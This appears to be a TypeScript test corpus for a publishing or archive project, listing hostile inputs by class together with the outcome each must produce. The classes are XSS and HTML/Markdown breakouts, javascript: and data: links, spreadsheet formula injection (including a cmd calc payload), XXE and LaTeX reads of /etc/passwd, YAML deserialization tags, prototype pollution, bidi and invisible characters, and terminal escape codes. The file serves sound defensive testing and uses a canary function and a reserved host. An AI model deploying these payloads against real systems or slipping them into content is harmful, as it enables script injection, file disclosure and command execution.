/**
 * The corpus of attacks on an archive by text: what strangers may write, by class, the places where it is put, and
 * what must be true after. All of it was written for this project. A script that ran would call `canary()`, and
 * nothing may be asked of the host `attack.invalid`; `generators.ts` makes further forms of these.
 */

/** Where an attack is put: into a source, an entry that somebody proposes, a file of the content, an address, a name. */
export type Place =
  | 'title'
  | 'standfirst'
  | 'body'
  | 'heading'
  | 'byline'
  | 'publisher'
  | 'link'
  | 'caption'
  | 'table'
  | 'page-json-ld'
  | 'page-meta'
  | 'front-matter'
  | 'field-name'
  | 'file-name'
  | 'label'
  | 'definition'
  | 'query'
  | 'fragment'
  | 'parameter';

/**
 * What must be true after, besides what must of all: no script runs, nothing is loaded from elsewhere, the page has
 * the structure of a harmless one, and the texts that are handed on are read back as they were.
 * - `shown`: the text stands where it was put, letter by letter.
 * - `named`: the hidden letters of the text are named where they stood.
 * - `unfollowed`: no link leads there.
 * - `no-formula`: no cell of a table can be taken for a formula.
 * - `refused`: the source makes no entry, and a coded fault says why; an entry stops the build with its path.
 * - `plain-address`: the address is of small Latin letters, figures and hyphens.
 * - `escaped`: what a terminal is sent has no control code.
 */
type Must =
  'shown' | 'named' | 'unfollowed' | 'no-formula' | 'refused' | 'plain-address' | 'escaped';

interface Family {
  readonly must: Must;
  readonly places: readonly Place[];
  readonly texts: readonly string[];
}

const TEXT_PLACES = ['title', 'standfirst', 'body', 'byline', 'publisher'] as const;
const PAGE_PLACES = ['caption', 'table', 'page-json-ld', 'page-meta'] as const;
const ASKED = ['query', 'parameter', 'fragment'] as const;

/** Classes of attacks, each with its texts. A text is tried at each place of its class. */
export const FAMILIES = {
  'script in text': {
    must: 'shown',
    places: [...TEXT_PLACES, ...PAGE_PLACES, 'heading', 'label', 'definition', ...ASKED],
    texts: [
      '<script>canary()</script>',
      '<script src="https://attack.invalid/a.js"></script>',
      '<img src=x onerror=canary()>',
      '<svg onload=canary()>',
      '<svg><script>canary()</script></svg>',
      '<body onload=canary()>',
      '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
      '<iframe src="javascript:parent.canary()"></iframe>',
      '<object data="https://attack.invalid/a.swf"></object>',
      '<embed src="https://attack.invalid/a.swf">',
      '<video><source onerror=canary()></video>',
      '<audio src="https://attack.invalid/a.mp3" autoplay></audio>',
      '<details open ontoggle=canary()>x</details>',
      '<input autofocus onfocus=canary()>',
      '<marquee onstart=canary()>x</marquee>',
      '<link rel=stylesheet href="https://attack.invalid/a.css">',
      '<style>@import "https://attack.invalid/a.css";</style>',
      '<meta http-equiv=refresh content="0;url=https://attack.invalid/">',
      '<base href="https://attack.invalid/">',
      '<form action="https://attack.invalid/"><button>Search</button></form>',
      '<template><script>canary()</script></template>',
      '<custom-element onpointerenter=canary()>x</custom-element>',
      '<a href="https://attack.invalid/" ping="https://attack.invalid/p">x</a>',
      '<div style="background:url(https://attack.invalid/a.png)">x</div>',
    ],
  },
  'break out of an element': {
    must: 'shown',
    places: [...TEXT_PLACES, ...PAGE_PLACES, 'label', 'query'],
    texts: [
      '</script><script>canary()</script>',
      '</title><script>canary()</script>',
      '</textarea><script>canary()</script>',
      '</style><script>canary()</script>',
      '</template><img src=x onerror=canary()>',
      '</noscript><img src=x onerror=canary()>',
      '</pre></code></p></article></main><h1>Another headline</h1><main>',
      '</body></html><script>canary()</script>',
      '--><script>canary()</script><!--',
      ']]><script>canary()</script>',
      '</li></ol></nav><nav aria-label="Main"><a href="https://attack.invalid/">Home</a></nav>',
      '</option></select><script>canary()</script>',
      '</svg></symbol><script>canary()</script>',
    ],
  },
  'break out of an attribute': {
    must: 'shown',
    places: [...TEXT_PLACES, 'page-meta', 'label', 'definition', 'query', 'parameter'],
    texts: [
      '" onmouseover="canary()',
      "' onmouseover='canary()",
      '"><img src=x onerror=canary()>',
      "'><img src=x onerror=canary()>",
      '` onmouseover=`canary()',
      '" autofocus onfocus="canary()" x="',
      '" style="position:fixed;inset:0" class="',
      '" http-equiv="refresh" content="0;url=https://attack.invalid/',
      'x" href="javascript:canary()',
      '/ onload=canary() x=',
    ],
  },
  'script in a link': {
    must: 'unfollowed',
    places: ['link', 'body'],
    texts: [
      'javascript:canary()',
      'JaVaScRiPt:canary()',
      ' javascript:canary()',
      'java\tscript:canary()',
      'java\nscript:canary()',
      '\u0001javascript:canary()',
      'javascript&colon;canary()',
      '&#106;avascript:canary()',
      '&#x6A;&#x61;vascript:canary()',
      'javascript://attack.invalid/%0Acanary()',
      'vbscript:canary()',
      'livescript:canary()',
      'data:text/html,<script>canary()</script>',
      'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
      'data:image/svg+xml,<svg onload=canary()>',
      'blob:https://attack.invalid/1',
      'file:///etc/passwd',
      'view-source:javascript:canary()',
      'feed:javascript:canary()',
      'filesystem:https://attack.invalid/x',
    ],
  },
  'Markdown that loads or leads': {
    must: 'unfollowed',
    places: ['body', 'title', 'heading'],
    texts: [
      '[x](javascript:canary())',
      '[x](<javascript:canary()>)',
      '[x](&#x6a;avascript:canary())',
      '[x](vbscript:canary() "t")',
      '[x](data:text/html,x)',
      '[x](//attack.invalid/)',
      '[x](\\\\\\\\attack.invalid/)',
      '[x](/&#9;/attack.invalid/)',
      '<javascript:canary()>',
      '![x](https://attack.invalid/x.png)',
      '![x](https://attack.invalid/x.png "\\" onload=canary()")',
      '![x][y]',
      '[![x](https://attack.invalid/x.png)](javascript:canary())',
      '[x]: javascript:canary()',
      '> [x]\n>\n> [x]: javascript:canary()',
      '- ![x](https://attack.invalid/x.png)',
    ],
  },
  'HTML that breaks out of Markdown': {
    must: 'shown',
    places: ['body'],
    texts: [
      '<div>\n\n<script>canary()</script>\n\n</div>',
      '<!--\n\n--><script>canary()</script>',
      '<?x ?><script>canary()</script>',
      '<![CDATA[<script>canary()</script>]]>',
      '<!DOCTYPE html><script>canary()</script>',
      '```\n</code></pre><script>canary()</script>\n```',
      '`</code><script>canary()</script>`',
      '    </pre><script>canary()</script>',
      '```js"onmouseover="canary()\nx\n```',
      '| a |\n|---|\n| <img src=x onerror=canary()> |',
      '# One\n\n# Two',
      '> # A headline in a quotation',
      '- # A headline in a list',
      '[x](https://example.org "> <script>canary()</script>")',
      '[x](https://example.org \'"onmouseover="canary()\')',
      '<a href="https://example.org" onclick=canary()>x</a>',
      '# x {#main .page onclick=canary()}',
      ':::raw\n<script>canary()</script>\n:::',
      '$$\\href{javascript:canary()}{x}$$',
      'x[^1]\n\n[^1]: <script>canary()</script>',
    ],
  },
  'mutation of HTML': {
    must: 'shown',
    places: ['title', 'body', 'standfirst', 'publisher', 'query'],
    texts: [
      '<noscript><p title="</noscript><img src=x onerror=canary()>">',
      '<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></table></mtext></math>',
      '<svg></p><style><a id="</style><img src=x onerror=canary()>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
      '<select><template><style></select><img src=x onerror=canary()></style></template></select>',
      '<x/><title>&lt;/title&gt;&lt;img src=x onerror=canary()&gt;',
      '<svg><desc><![CDATA[</desc><script>canary()</script>]]></svg>',
      '<math><annotation-xml encoding="text/html"><script>canary()</script></annotation-xml></math>',
      '<p id=a><p id=a><svg><foreignObject><p><img src=x onerror=canary()>',
      '<plaintext><script>canary()</script>',
      '<listing>&lt;img src=x onerror=canary()&gt;</listing>',
      '<xmp></xmp><script>canary()</script>',
    ],
  },
  entities: {
    must: 'shown',
    places: ['title', 'body', 'byline', 'publisher', 'page-meta', 'query'],
    texts: [
      '&lt;script&gt;canary()&lt;/script&gt;',
      '&#60;script&#62;canary()&#60;/script&#62;',
      '&#x3C;script&#x3E;canary()&#x3C;/script&#x3E;',
      '&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;',
      '&lt&#115cript&gt;canary()',
      '&quot; onmouseover=&quot;canary()',
      '&NewLine;&Tab;&colon;&lpar;&rpar;&sol;',
      '%3Cscript%3Ecanary()%3C/script%3E',
      '\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
      '\\x3cscript\\x3ecanary()',
      '&#0;&#x0;&#xD800;&#x110000;&#xFFFFFFFF;',
    ],
  },
  templates: {
    must: 'shown',
    places: ['title', 'body', 'publisher', 'definition', 'query'],
    texts: [
      '{canary()}',
      '{{canary()}}',
      '${canary()}',
      '`${canary()}`',
      '<%= canary() %>',
      '#{canary()}',
      '{{constructor.constructor("canary()")()}}',
      '{...[canary()]}',
      '{/* */ canary()}',
      '<Fragment set:html={"<script>canary()</script>"} />',
      '<slot name="head"><script>canary()</script></slot>',
      "$& $1 $` $' $$ $<name>",
    ],
  },
  'ends of scripts and lines': {
    must: 'named',
    places: ['title', 'body', 'byline', 'publisher'],
    texts: [
      'a\u2028canary()//',
      'a\u2029canary()//',
      '"}\u2028</script><script>canary()</script>',
      'a\u0085b',
    ],
  },
  'JSON-LD': {
    must: 'shown',
    places: ['title', 'byline', 'publisher', 'page-json-ld'],
    texts: [
      '"},"@type":"WebPage","url":"https://attack.invalid/',
      '"}]}</script><script>canary()</script>',
      '<!--<script>',
      '<!--<script></script>--><script>canary()</script>',
      '\\"}</script>',
      '{"@context":"https://attack.invalid/context.jsonld"}',
      '"@id":"javascript:canary()"',
    ],
  },
  formulas: {
    must: 'no-formula',
    places: ['title', 'standfirst', 'byline', 'publisher'],
    texts: [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(1+1)',
      '=HYPERLINK("https://attack.invalid/","x")',
      '=WEBSERVICE("https://attack.invalid/")',
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\uFF1D1+1',
      '\uFF0B1+1',
      '\uFF0D1+1',
      '\uFF20SUM(1)',
      '\u22121+1',
      'x;=1+1;x',
      'x; =1+1',
      'x,=1+1,x',
      'x";=1+1;"x',
      "x';=1+1;'x",
      '"=1+1"',
      ' =1+1',
      '\u00A0=1+1',
      '\u200B=1+1',
      '\uFEFF=1+1',
      '\u202E=1+1',
      'sep=;',
      'x\t=1+1',
    ],
  },
  references: {
    must: 'shown',
    places: ['title', 'byline', 'publisher', 'standfirst'],
    texts: [
      '}, author = {Nobody}, x = {',
      '}}\n@article{other, title={Other}}',
      '@string{jan = "x"}',
      '@preamble{"\\write18{canary}"}',
      '\\input{/etc/passwd}',
      '\\write18{canary}',
      '\\immediate\\openout\\x=x',
      '\\catcode`\\%=12',
      '{{{{',
      '}}}}',
      'ER  - ',
      'x ER  - TY  - BOOK',
      'TY  - BOOK',
      '%0 Book',
      'a and b and others',
      'a, b, c, d',
    ],
  },
  'feeds and XML': {
    must: 'shown',
    places: ['title', 'body', 'byline', 'publisher', 'definition'],
    texts: [
      ']]></title><entry><title>Another</title></entry>',
      '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
      '&y;',
      '<xi:include href="file:///etc/passwd" parse="text"/>',
      '<?xml-stylesheet href="https://attack.invalid/a.xsl"?>',
      '<link href="https://attack.invalid/" rel="self"/>',
      '</content></entry></feed>',
      '<content type="xhtml"><script>canary()</script></content>',
    ],
  },
  pictures: {
    must: 'shown',
    places: ['title', 'publisher', 'label'],
    texts: [
      '</text><script>canary()</script>',
      '</title></svg><svg onload=canary()>',
      '<use href="https://attack.invalid/a.svg#x"/>',
      '<image href="https://attack.invalid/a.png"/>',
      '<foreignObject><body onload=canary()></foreignObject>',
      '<animate onbegin=canary() attributeName=x dur=1s>',
    ],
  },
  direction: {
    must: 'named',
    places: [...TEXT_PLACES, 'label', 'query', 'file-name'],
    texts: [
      'harbour\u202Eruobrah',
      '\u202Dharbour\u202C',
      '\u202Aharbour\u202C',
      '\u202Bharbour\u202C',
      '\u2066harbour\u2069',
      '\u2067harbour\u2069',
      '\u2068harbour\u2069',
      'harbour\u2069\u202C',
      'harbour\u200Edues',
      'harbour\u200Fdues',
      'harbour\u061Cdues',
      'paid 100\u202E001 to',
      'report\u202Etxt.exe',
    ],
  },
  'unseen letters': {
    must: 'named',
    places: [...TEXT_PLACES, 'label', 'query', 'file-name'],
    texts: [
      'har\u200Bbour',
      'har\u200Cbour',
      'har\u200Dbour',
      'har\u2060bour',
      'har\uFEFFbour',
      'harbour \u00ADdues',
      'har\u034Fbour',
      'har\u180Ebour',
      'har\u3164bour',
      'har\uFFA0bour',
      'har\u115Fbour',
      'har\uFE01bour',
      'har\u{E0041}\u{E0042}\u{E0043}bour',
      'har\u{E0100}\u{E0101}bour',
      'har\uFFF9x\uFFFAy\uFFFBbour',
      'harbour\u200B\u200B\u200B\u200B\u200B',
      'har\u206Abour',
      'har\u{1D173}bour',
    ],
  },
  likenesses: {
    must: 'plain-address',
    places: ['title', 'file-name'],
    texts: [
      '\u0430dmin of the harbour',
      'Harb\u03BFur',
      '\uFF28\uFF41\uFF52\uFF42\uFF4F\uFF55\uFF52',
      '\u{1D407}\u{1D41A}\u{1D42B}bour',
      'Harbo\u057Dr',
      '\u212Aeeper',
      'mi\u0307t',
      'I\u0307stanbul',
      'harbour\u2215dues',
      'harbour\u2024dues',
      'har\u0335bour',
      '\u24D7arbour',
      '..\u2215..\u2215etc',
      '%2e%2e%2fetc',
      'con',
      'index',
    ],
  },
  'keys of objects': {
    must: 'shown',
    places: ['title', 'body', 'byline', 'publisher', 'field-name', 'query', 'parameter'],
    texts: [
      '__proto__',
      'constructor',
      'prototype',
      'toString valueOf',
      'hasOwnProperty',
      '__defineGetter__',
      'constructor.prototype.polluted',
      '__proto__[polluted]',
      'isPrototypeOf then',
    ],
  },
  'names of the window': {
    must: 'shown',
    places: ['title', 'query', 'fragment', 'parameter'],
    texts: ['main', 'location', 'document', 'forms', 'q1', 'p1', 'getElementById', 'trustedTypes'],
  },
  'front matter that runs or multiplies': {
    must: 'refused',
    places: ['front-matter'],
    texts: [
      '---js\n{ title: globalThis.canary() }\n---',
      '---javascript\nglobalThis.canary()\n---',
      '---coffee\ntitle: globalThis.canary()\n---',
      '---coffeescript\nglobalThis.canary()\n---',
      '---cson\ntitle: "x"\n---',
      '---json\n{ "title": "x" }\n---',
      '---node\nglobalThis.canary()\n---',
      '---ts\nglobalThis.canary()\n---',
      '--- js\nglobalThis.canary()\n---',
      '---\nkey: [\n---',
      '---\n- a\n- list\n---',
      '---\nscalar\n---',
      '---\ntitle: *unknown\n---',
      '---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n---',
    ],
  },
  'front matter that pretends': {
    must: 'shown',
    places: ['front-matter'],
    texts: [
      '---\ntitle: !!js/function "function () { globalThis.canary() }"\n---',
      '---\ntitle: !!js/regexp /x/\n---',
      '---\ntitle: !!python/object/apply:os.system ["true"]\n---',
      '---\ntitle: !<tag:attack.invalid,2026:run> x\n---',
      '---\ntitle: !!binary PHNjcmlwdD4=\n---',
      '---\n"__proto__": { polluted: true }\ntitle: x\n---',
      '---\nconstructor: { prototype: { polluted: true } }\ntitle: x\n---',
      '---\nbase: &b { polluted: true }\n<<: *b\ntitle: x\n---',
      '---\n? [a, b]\n: c\ntitle: x\n---',
      '---\ntitle: "a\\u001B[31mb\\u0007"\n---',
      '---\ntitle: "</script><script>canary()</script>"\n---',
      '---\ntitle: x\ntitle : y\n---',
      '+++\ntitle = "<script>canary()</script>"\n__proto__ = "x"\n+++',
    ],
  },
  'control codes': {
    must: 'escaped',
    places: ['title', 'body', 'byline', 'publisher', 'file-name', 'field-name'],
    texts: [
      '\u001B[31mred\u001B[0m',
      '\u001B[2J\u001B[H',
      '\u001B]0;title\u0007',
      '\u001B]8;;https://attack.invalid/\u001B\\x\u001B]8;;\u001B\\',
      '\u001B]52;c;eA==\u0007',
      '\u001B[6n',
      '\u001BP+q\u001B\\',
      '\u009B31mred',
      '\u009D0;x\u009C',
      'a\rb',
      'a\bb',
      'a\u007Fb',
      'a\u000Bb',
      'a\u000Eb\u000F',
    ],
  },
  'very long': {
    must: 'shown',
    places: ['title', 'body', 'byline', 'publisher', 'query'],
    texts: [
      'harbour'.repeat(300),
      'a'.repeat(5000),
      '<'.repeat(2000),
      '&'.repeat(2000),
      'a\u0301'.repeat(500) + '\u0301'.repeat(500),
      '('.repeat(1500),
      '"'.repeat(1500),
    ],
  },
} as const satisfies Readonly<Record<string, Family>>;

export type ClassOfAttack = keyof typeof FAMILIES;

export interface Attack {
  /** Its class, its number there from 1, and its place. */
  readonly id: string;
  readonly family: ClassOfAttack;
  readonly place: Place;
  readonly text: string;
  readonly must: Must;
}

/** All attacks: each text of a class at each of its places. */
export const ATTACKS: readonly Attack[] = (
  Object.entries(FAMILIES) as [ClassOfAttack, Family][]
).flatMap(([family, { must, places, texts }]) =>
  texts.flatMap((text, i) =>
    places.map((place) => ({ id: `${family} ${i + 1} as ${place}`, family, place, text, must })),
  ),
);

/** The texts of all classes, each once. */
export const TEXTS: readonly { readonly family: ClassOfAttack; readonly text: string }[] = (
  Object.entries(FAMILIES) as [ClassOfAttack, Family][]
).flatMap(([family, { texts }]) => texts.map((text) => ({ family, text })));
